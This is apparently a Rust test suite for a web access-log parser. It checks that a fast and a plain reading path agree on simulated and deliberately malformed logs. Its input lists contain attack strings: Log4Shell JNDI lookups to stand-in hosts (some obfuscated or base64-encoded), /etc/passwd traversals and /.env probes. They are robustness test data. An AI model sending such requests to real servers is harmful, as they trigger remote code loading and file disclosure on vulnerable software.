//! Both ways of reading give the same to the bit.

use std::cell::RefCell;
use std::collections::BTreeMap;

use relight_model::OrgId;
use testkit::Rng;

use super::*;
use crate::parsers::{Feed, named};
use crate::reader::Tally;
use crate::sim::tests::scenario;
use crate::sim::{Products, Scenario};

/// Everything that reading a segment leaves behind.
#[derive(Debug, PartialEq)]
struct Left {
    window: Vec<u8>,
    days: Vec<(DayKey, DayFacts)>,
    probes: Vec<(&'static str, i64, SiteId)>,
    tally: Tally,
    cut: u64,
}

/// Reads segments with one reader, the quick way or every line the plain way; gives how many
/// events were read quickly too.
fn read(reader: Reader, segments: &[&[u8]], is_quick: bool) -> (Vec<Left>, u64) {
    // One for all of them, as a thread has it: what was read before must change nothing.
    thread_local! {
        static MEMORY: RefCell<Memory> = RefCell::new(Memory::default());
    }
    MEMORY.with_borrow_mut(|memory| read_with(memory, reader, segments, is_quick))
}

fn read_with(
    memory: &mut Memory,
    mut reader: Reader,
    segments: &[&[u8]],
    is_quick: bool,
) -> (Vec<Left>, u64) {
    let (mut left, mut quick) = (Vec::new(), 0);
    for (number, bytes) in segments.iter().enumerate() {
        let (mut window, mut daybook) = (Window::new(number as u64), Daybook::new());
        let together = Together::new();
        let mut reading = Reading::new(&mut reader, memory, &mut window, &mut daybook, together);
        if is_quick {
            reading.lines(bytes);
        } else {
            let whole = bytes.strip_suffix(b"\n").unwrap_or(bytes);
            whole.split(|byte| *byte == b'\n').for_each(|raw| reading.plainly(raw));
        }
        quick += reading.counters.events;
        let (cut, _) = reading.finish();
        left.push(Left {
            window: window.to_bytes(),
            days: daybook.rows().to_vec(),
            probes: daybook.probes().collect(),
            tally: reader.tally().clone(),
            cut,
        });
    }
    (left, quick)
}

/// Both ways give the same; gives how many events were read quickly.
fn compare(feed: &Feed, format: Option<&str>, segments: &[&[u8]], what: &str) -> u64 {
    let reader = || match format {
        Some(name) => Reader::of(feed.clone(), named(name).unwrap()),
        None => Reader::new(feed.clone()),
    };
    let (quick, count) = read(reader(), segments, true);
    let (plain, none) = read(reader(), segments, false);
    assert_eq!(none, 0);
    for (number, (quick, plain)) in quick.iter().zip(&plain).enumerate() {
        assert_eq!(quick.tally, plain.tally, "{what}, segment {number}");
        assert_eq!(quick.days, plain.days, "{what}, segment {number}");
        let windows = [&quick.window, &plain.window];
        let [quick_window, plain_window] = windows.map(|it| Window::from_bytes(it).unwrap());
        assert_eq!(quick_window.contacts, plain_window.contacts, "{what}, segment {number}");
        assert!(quick == plain, "{what}, segment {number}");
    }
    count
}

fn feed() -> Feed {
    let host = "www.example.test".to_owned();
    Feed { org: OrgId(7), site: Some(SiteId(3)), host, ..Feed::default() }
}

/// Up to three segments, cut at line ends.
fn cut(bytes: &[u8]) -> Vec<&[u8]> {
    let third = |of: usize| {
        let from = bytes.len() * of / 3;
        let end = bytes[from..].iter().position(|byte| *byte == b'\n');
        end.map_or(bytes.len(), |end| from + end + 1)
    };
    let [one, two] = [third(1), third(2)];
    let segments = [&bytes[..one], &bytes[one..two], &bytes[two..]];
    segments.into_iter().filter(|segment| !segment.is_empty()).collect()
}

#[test]
fn simulated_logs_of_every_product() {
    let (mut quick, mut lines) = (0, 0);
    for (seed, logs) in [(11, Products::Many), (12, Products::Many), (13, Products::Combined)] {
        let scenario = Scenario { logs, visitors_per_day: 20, ..scenario(seed, 3) };
        for log in scenario.generate().logs {
            let (org, site, host) = (log.org, Some(log.site), log.host.clone());
            // Received in the midst of it: what comes later has a wrong clock.
            let received = scenario.from + 2 * DAY_S;
            let feed = Feed { org, site, host, received, ..Feed::default() };
            let what = format!("seed {seed}, {} of {}", log.format, log.host);
            let segments = cut(&log.bytes);
            let count = compare(&feed, None, &segments, &what);
            assert_eq!(compare(&feed, Some(log.format), &segments, &what) > 0, count > 0);
            if log.format == COMBINED {
                quick += count;
                lines += log.bytes.iter().filter(|byte| **byte == b'\n').count() as u64;
            } else {
                assert_eq!(count, 0, "{what}");
            }
        }
    }
    assert!(quick * 10 > lines * 8, "most lines are ordinary: {quick} of {lines}");
}

const SOURCES: [&str; 11] = [
    "192.0.2.1",
    "192.0.2.2",
    "192.0.2.77",
    "2001:db8::1",
    "2001:db8::2",
    "::ffff:192.0.2.1",
    "192.0.2.01",
    "192.0.2.256",
    "host",
    "",
    "192.0.2.1:80",
];
const USERS: [&str; 8] =
    ["- -", "- -", "- -", "- -", "- bob", "id -", "- [10/Dec/2021:02:05:58 +0000]", "- a \"b\""];
const TARGETS: [&str; 36] = [
    "/",
    "/",
    "/a",
    "/a",
    "/b/1",
    "/b/2",
    "/B/3?x=1",
    "/x?y=1&z=2",
    "/x?y=%41",
    "/a%20b",
    "/a b",
    "/.env",
    "/%2eenv",
    "/a//b",
    "/./x",
    "/a/../b",
    "/robots.txt",
    "/ROBOTS.txt",
    "/.well-known/x",
    "/${jndi:ldap://x.example/a}",
    "/a?b=${jndi:ldap://x.example/a}",
    "/a?%24%7bjndi:ldap://x/a}",
    "/a?x=&#36;{jndi:ldap://x/a}",
    "/a\\x22b",
    "/a\\\"b",
    "/?basic abc",
    "/?Basic JHtqbmRpOmxkYXA6Ly94L2F9",
    "*",
    "http://a.test/b",
    "",
    "/caf\u{e9}",
    "/../../etc/passwd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/x?f=../../etc/passwd",
    "/solr/admin/cores?x=1",
    "/wp-login.php",
];
const METHODS: [&str; 8] = ["GET ", "GET ", "GET ", "POST ", "HEAD ", "M-SEARCH ", "", "G3T "];
const VERSIONS: [&str; 6] = [" HTTP/1.1", " HTTP/1.1", " HTTP/2.0", " HTTP/2", "", " FTP/1"];
const STATUSES: [&str; 14] = [
    "200", "200", "200", "200", "304", "404", "404", "403", "410", "500", "-", "1000", "099", "20",
];
const SIZES: [&str; 6] = ["0", "12", "12", "-", "999999999999999999999", "1x"];
const REFERERS: [&str; 7] = [
    "-",
    "-",
    "",
    "https://www.example.test/a",
    "https://other.test/?a=1&b=%20",
    "Basic JHtqbmRpOmxkYXA6Ly94L2F9",
    "${jndi:ldap://y.example/b}",
];
const AGENTS: [&str; 8] = [
    "Mozilla/5.0 (X11)",
    "Mozilla/5.0 (X11)",
    "curl/8",
    "-",
    "",
    "Tool \\x22a",
    "bASIC JHtqbmRpOmxkYXA6Ly94L2F9",
    "${${lower:j}ndi:ldap://z.example/c}",
];
const TAILS: [&str; 8] = [
    "",
    "",
    "",
    "",
    "",
    " x",
    " \"${jndi:ldap://w.example/d}\"",
    " 12 \"r@f\" \"http://10.0.0.2:80\" 3ms",
];
const OTHERS: [&str; 8] = [
    "",
    "\r",
    "garbage",
    "#Fields: date time c-ip cs-method cs-uri-stem sc-status",
    "2021-12-10 02:05:58 192.0.2.1 GET /i 200",
    "192.0.2.1 - - [10/Dec/2021:02:00:00 +0000] \"GET \
     /c HTTP/1.1\" 200 1",
    "{\"a\":\"${jndi:ldap://v.example/e}\"}",
    "version 2",
];
const JOURNAL: [&str; 4] =
    ["__CURSOR=s=1", "__REALTIME_TIMESTAMP=1639101958123456", "MESSAGE=garbage", "_PID=7"];

fn stamp(rng: &mut Rng) -> String {
    let day =
        *rng.pick(&["10/Dec/2021", "10/Dec/2021", "10/Dec/2021", "11/Dec/2021", "07/Dec/2021"]);
    let zone = if rng.chance(95) { "+0000" } else { *rng.pick(&["-0500", "+0x00"]) };
    let (hour, minute) = (rng.below(3) + 22 * rng.below(2), rng.below(2) + 58);
    format!("{day}:{hour:02}:{minute:02}:{:02} {zone}", rng.below(60) + 2 * rng.below(2))
}

fn hostile_line(rng: &mut Rng) -> String {
    if rng.chance(5) {
        return (*rng.pick(&OTHERS)).to_owned();
    }
    let mut long = String::new();
    if rng.chance(3) {
        long = "a".repeat(*rng.pick(&[250, 300, LINE_BYTES_MAX]));
    }
    let stamp = stamp(rng);
    let mut pick = |list: &[&'static str]| -> &'static str {
        // The first two are ordinary ones.
        let choices = if rng.chance(80) { 2 } else { list.len() };
        list[rng.below(choices)]
    };
    format!(
        "{} {} [{stamp}] \"{}{}{long}{}\" {} {} \"{}\" \"{}\"{}",
        pick(&SOURCES),
        pick(&USERS),
        pick(&METHODS),
        pick(&TARGETS),
        pick(&VERSIONS),
        pick(&STATUSES),
        pick(&SIZES),
        pick(&REFERERS),
        pick(&AGENTS),
        pick(&TAILS),
    )
}

/// Lines of all shapes, some with a byte put in or taken out, some twice.
fn hostile_log(rng: &mut Rng, lines: usize, is_journal: bool) -> Vec<u8> {
    let mut log: Vec<Vec<u8>> = Vec::new();
    for _ in 0..lines {
        let mut line = hostile_line(rng).into_bytes();
        if is_journal && rng.chance(3) {
            line = rng.pick(&JOURNAL).as_bytes().to_vec();
        }
        if rng.chance(8) && !line.is_empty() {
            let at = rng.below(line.len());
            if rng.chance(50) {
                line.insert(at, *rng.pick(b"\"\\ []\0\xff\r$%&{-\xc3"));
            } else {
                line.remove(at);
            }
        }
        if rng.chance(5) && !log.is_empty() {
            line = rng.pick(&log).clone();
        }
        log.push(line);
    }
    let mut bytes = log.join(&b'\n');
    if rng.chance(50) {
        bytes.push(b'\n');
    }
    bytes
}

#[test]
fn hostile_lines() {
    let mut quick = 0;
    for seed in 0..60 {
        let mut rng = Rng::new(seed);
        let log = hostile_log(&mut rng, 300, seed % 5 == 0);
        let sites = BTreeMap::from([("www.example.test".to_owned(), SiteId(9))]);
        let received = 1_639_101_600;
        let feeds = [
            Feed { received, ..feed() },
            Feed { site: None, sites, ..feed() },
            Feed { site: None, host: String::new(), ..feed() },
        ];
        let segments = cut(&log);
        for (number, feed) in feeds.iter().enumerate() {
            let what = format!("seed {seed}, feed {number}");
            quick += compare(feed, None, &segments, &what);
            quick += compare(feed, Some("combined"), &segments, &what);
            assert_eq!(compare(feed, Some("common"), &segments, &what), 0);
        }
    }
    assert!(quick > 2_000, "{quick}");
}

#[test]
fn a_host_that_is_none_is_read_the_plain_way() {
    let line = "192.0.2.1 - - [10/Dec/2021:02:00:00 +0000] \"GET /c HTTP/1.1\" 200 1 \"-\" \"-\"\n";
    for (host, quick) in [("www.example.test", 2), ("", 2), ("basic x", 0), ("${jndi:x}", 0)] {
        let feed = Feed { host: host.to_owned(), ..feed() };
        let log = line.repeat(3);
        assert_eq!(compare(&feed, None, &[log.as_bytes()], host), quick);
    }
}

/// A feed that is of another format than before is so from the same line on, also where that is
/// noticed at a line that is read quickly.
#[test]
fn a_change_of_format_is_at_the_same_line() {
    let common = "192.0.2.1 - - [10/Dec/2021:02:00:00 +0000] \"GET /c HTTP/1.1\" 200 1";
    let (combined, common) = (format!("{common} \"-\" \"-\"\n"), format!("{common}\n"));
    let (before, after) = (combined.repeat(1_000), combined.repeat(500));
    let log = ["\n\n\n", &before, &common.repeat(600), &after].concat();
    assert!(compare(&feed(), None, &[log.as_bytes()], "change") > 1_400);
    let (left, _) = read(Reader::new(feed()), &[log.as_bytes()], true);
    let lines: Vec<u64> = left[0].tally.changes.iter().map(|change| change.line).collect();
    assert_eq!(lines, [2_003]);
}

/// More sources, targets and clients than are remembered, each several times.
#[test]
fn more_than_is_remembered() {
    use super::super::memory::{AGENTS_MAX, PATHS_MAX, QUERIES_MAX, SOURCES_MAX};
    let mut rng = Rng::new(3);
    let mut log = String::new();
    for _ in 0..70_000 {
        let (path, agent) = (rng.below(2 * PATHS_MAX), rng.below(2 * AGENTS_MAX));
        let query = rng.below(2 * QUERIES_MAX);
        let source = if rng.chance(50) { rng.below(2 * SOURCES_MAX) } else { rng.below(900) };
        let status = *rng.pick(&[200, 200, 200, 404]);
        log.push_str(&format!(
            "10.{}.{}.{} - - [10/Dec/2021:02:00:00 +0000] \"GET /x{path}y?{query} HTTP/1.1\" \
             {status} 1 \"-\" \"agent {agent}\"\n",
            source >> 16,
            source >> 8 & 0xff,
            source & 0xff,
        ));
    }
    assert!(compare(&feed(), None, &cut(log.as_bytes()), "many") > 69_000);
}

/// The windows of segments, read together with those before or each alone.
fn windows(segments: &[&[u8]], is_together: bool) -> Vec<Window> {
    let (mut reader, mut memory) = (Reader::new(feed()), Memory::default());
    let mut together = Together::new();
    let window = |(number, bytes): (usize, &&[u8])| {
        let (mut window, mut daybook) = (Window::new(number as u64), Daybook::new());
        let scope = if is_together { together } else { Together::new() };
        let mut reading = reader.reading(&mut memory, &mut window, &mut daybook, scope);
        reading.lines(bytes);
        together = reading.finish().1;
        window
    };
    segments.iter().enumerate().map(window).collect()
}

/// Goal: what is left out of a window because one before it has it makes no difference once they
/// are joined, however far back in time lines go.
#[test]
fn windows_that_were_read_together_tell_the_same_when_they_are_joined() {
    let mut rng = Rng::new(17);
    let mut log = String::new();
    for number in 0..12_000 {
        let day = if rng.below(900) == 0 { 9 + rng.below(4) } else { 10 + number / 4_000 };
        let (source, path) = (rng.below(256), rng.below(40));
        let status = *rng.pick(&[200, 200, 200, 304, 404]);
        log.push_str(&format!(
            "192.0.2.{source} - - [{day:02}/Dec/2021:02:00:00 +0000] \"GET /x{path}y HTTP/1.1\" \
             {status} 1 \"-\" \"agent {}\"\n",
            source % 7,
        ));
    }
    let lines: Vec<&[u8]> = log.as_bytes().split_inclusive(|byte| *byte == b'\n').collect();
    let segments: Vec<Vec<u8>> = lines.chunks(700).map(<[&[u8]]>::concat).collect();
    let segments: Vec<&[u8]> = segments.iter().map(Vec::as_slice).collect();
    let (together, alone) = (windows(&segments, true), windows(&segments, false));
    let marks = |it: &Window| it.ordinary.len() + it.served.len() + it.users.0.len();
    let [fewer, more] = [&together, &alone].map(|all| all.iter().map(marks).sum::<usize>());
    assert!(fewer * 2 < more, "{fewer} {more}");
    let joined = |windows: Vec<Window>| {
        Window::join(windows).iter().map(Window::to_bytes).collect::<Vec<_>>()
    };
    assert_eq!(joined(together), joined(alone));
}

/// A window of another day has its marks whatever the one before it has: it may outlive it, and
/// tells on which days a path was answered.
#[test]
fn a_mark_of_another_day_is_set_again() {
    let line = |day: u32| {
        format!(
            "192.0.2.1 - - [{day:02}/Dec/2021:02:00:00 +0000] \"GET /x HTTP/1.1\" 200 1 \"-\" \
             \"agent\"\n"
        )
    };
    // The first line of a log is read the plain way: nobody knows its format.
    let segments = [[line(10), line(10)].concat(), line(10), line(11), line(10)];
    let segments: Vec<&[u8]> = segments.iter().map(String::as_bytes).collect();
    let marks = |window: &Window| window.ordinary.len() + window.served.len();
    let marks: Vec<usize> = windows(&segments, true).iter().map(marks).collect();
    assert_eq!(marks, [2, 0, 2, 2]);
}
